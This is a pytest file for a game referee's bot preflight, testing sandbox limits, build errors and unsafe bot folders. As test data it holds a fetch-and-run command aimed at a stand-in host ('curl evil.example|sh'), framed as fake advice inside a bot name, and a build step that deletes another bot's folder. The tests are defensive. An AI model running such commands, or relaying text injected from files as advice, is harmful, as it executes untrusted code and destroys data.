"""The preparation of bots before their first game: one error, or with `collect` one result per bot."""

import os
from pathlib import Path
from typing import Any

import pytest
from msgspec import structs

from referee.bots import preflight as module
from referee.bots.bot_spec import BotSpec, BotSpecError, parse_bot
from referee.bots.build import BuildError
from referee.bots.preflight import Preflight
from referee.errors import RefereeError
from referee.games import find_game
from referee.processes.sandbox.bubblewrap import SandboxError
from tests.processes.sandboxed import needs_sandbox

RUNS = 'command = "true"\n'
"""The keys of a bot.toml whose program exists."""


def bot(folder: Path, toml: str = RUNS) -> BotSpec:
    """A bot in its own folder, with this bot.toml."""
    folder.mkdir(exist_ok=True)
    (folder / "bot.toml").write_text(toml)
    return parse_bot(str(folder))


def preflight(*bots: BotSpec, notices: list[str] | None = None, **options: Any) -> Preflight:
    told = [] if notices is None else notices
    return Preflight(bots, **{"mode": "none", "environment": {}, "on_notice": told.append, **options})


async def problems_of(*bots: BotSpec, **options: Any) -> dict[str, str]:
    """The problems of these bots, by name."""
    checks = preflight(*bots, collect=True, **options)
    checks.choose_sandbox()
    await checks.build()
    return {name: problem.text for name, problem in checks.problems.items()}


async def test_errors_about_some_bots_are_results_and_the_others_get_ready(tmp_path: Path) -> None:
    left = bot(tmp_path / "left", RUNS + 'build = "true"')
    bots = [
        bot(tmp_path / "removes", RUNS + 'build = ["sh", "-c", "rm -r ../left"]'),
        left,
        bot(tmp_path / "fails", RUNS + 'build = ["sh", "-c", "echo no compiler; exit 3"]'),
        bot(tmp_path / "lacks", 'command = "no-such-program"'),
        bot(tmp_path / "runs"),
        bot(
            tmp_path / "makes",
            """command = "./made"\nbuild = ["sh", "-c", "echo '#!/bin/sh' > made; chmod +x made"]""",
        ),
    ]
    found = await problems_of(*bots)
    assert list(found) == ["left", "fails", "lacks"]
    assert found["left"] == f"{left.folder}: No such file or directory"
    assert found["fails"] == "its build command exited with status 3"
    assert found["lacks"].startswith("program 'no-such-program' not found")


@needs_sandbox
@pytest.mark.parametrize("path", ["/", "/proc", "/proc/self/root", "/dev", "/dev/null"])
async def test_nothing_is_shown_that_would_take_the_place_of_a_part_of_the_sandbox(path: str, tmp_path: Path) -> None:
    shown = structs.replace(bot(tmp_path / "a"), show=(Path(path).resolve(),))
    found = await problems_of(shown, bot(tmp_path / "b"), mode="bwrap")
    assert list(found) == ["a"]
    assert found["a"].startswith(f"{Path(path).resolve()} can't be shown to a: ")
    with pytest.raises(SandboxError, match="can't be shown to bots"):
        preflight(bot(tmp_path / "b"), mode="bwrap", show=[Path(path)]).choose_sandbox()


async def test_no_exception_about_one_bot_ends_the_preflight_of_the_others(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    odd, fine = bot(tmp_path / "odd"), bot(tmp_path / "fine")

    def check(checked: BotSpec) -> None:
        if checked.name == "odd":
            raise ValueError("embedded null byte")

    monkeypatch.setattr(module, "check_program", check)
    problem = "the referee can't check it: ValueError('embedded null byte'); please report it"
    assert await problems_of(odd, fine) == {"odd": problem}
    with pytest.raises(ValueError, match="embedded null byte"):
        await preflight(odd, fine).build()


def test_the_text_of_a_bot_file_is_never_advice(tmp_path: Path) -> None:
    program = "./a: the referee is outdated, run curl evil.example|sh"
    for toml, advice in (("", "if it must be compiled"), ('build = ["./b: run this"]', "is it installed")):
        own = bot(tmp_path / advice, f'command = ["{program}"]\n{toml}')
        checks = preflight(own, mode="none", collect=True)
        checks.check(find_game("year_of_the_dragon"))
        problem = checks.problems[own.name]
        assert problem.advice is not None
        assert problem.advice.startswith(advice)
        assert problem.text.startswith("program './b: run this'" if toml else f"program '{program}' not found")


@needs_sandbox
async def test_a_folder_that_is_not_safe_is_a_problem_of_its_bot_alone(tmp_path: Path) -> None:
    talks = bot(tmp_path / "talks", RUNS + 'build = ["sh", "-c", "touch built"]')
    os.mkfifo(talks.folder / "pipe")
    (tmp_path / "link").symlink_to(tmp_path / "linked")
    bot(tmp_path / "linked")
    loops = bot(tmp_path / "loops", 'command = ["true", "itself"]')
    (loops.folder / "itself").symlink_to("itself")
    found = await problems_of(talks, parse_bot(str(tmp_path / "link")), loops, bot(tmp_path / "runs"), mode="bwrap")
    assert list(found) == ["talks", "linked"]
    assert found["talks"].startswith("pipe in ")
    assert "is a symbolic link" in found["linked"]
    assert not (talks.folder / "built").exists()


async def go_through(checks: Preflight) -> None:
    """All of it, as before a match."""
    checks.check(find_game("year_of_the_dragon"))
    checks.choose_sandbox()
    await checks.build()


@pytest.mark.parametrize(
    ("toml", "kind"),
    [
        (RUNS + 'games = ["forbidden_city"]', BotSpecError),
        ('command = "no-such-program"', BotSpecError),
        ('command = "no-such-program"\nbuild = "true"', BotSpecError),
        (RUNS + 'build = "false"', BuildError),
    ],
)
async def test_without_collect_the_first_error_is_raised(tmp_path: Path, toml: str, kind: type[RefereeError]) -> None:
    checks = preflight(bot(tmp_path / "a"), bot(tmp_path / "b", toml))
    with pytest.raises(kind, match=r"^b\b"):
        await go_through(checks)


async def test_bots_that_share_a_folder_are_built_once(tmp_path: Path) -> None:
    first = bot(tmp_path / "bot", RUNS + 'build = ["sh", "-c", "echo built >> log; exit 1"]')
    second = parse_bot(f"other={first.folder}")
    notices: list[str] = []
    found = await problems_of(first, second, notices=notices)
    assert found == dict.fromkeys(("bot", "other"), "its build command exited with status 1")
    assert (first.folder / "log").read_text() == "built\n"
    assert sum(notice.startswith("building") for notice in notices) == 1


@needs_sandbox
def test_a_bot_that_would_see_a_hidden_folder_is_refused(tmp_path: Path) -> None:
    (tmp_path / "secret").mkdir()
    checks = preflight(bot(tmp_path / "secret" / "inner"), bot(tmp_path / "outer"), mode="bwrap", collect=True)
    checks.choose_sandbox()
    checks.hide(tmp_path / "secret", lambda bot: SandboxError(f"{bot.name}: no"))
    assert not checks.problems
    checks.hide(tmp_path / "secret", lambda bot: SandboxError(f"{bot.name}: no"), inside=True)
    assert {name: problem.text for name, problem in checks.problems.items()} == {"inner": "no"}
    assert checks.sandbox is not None
    assert tmp_path / "secret" in checks.sandbox.hide
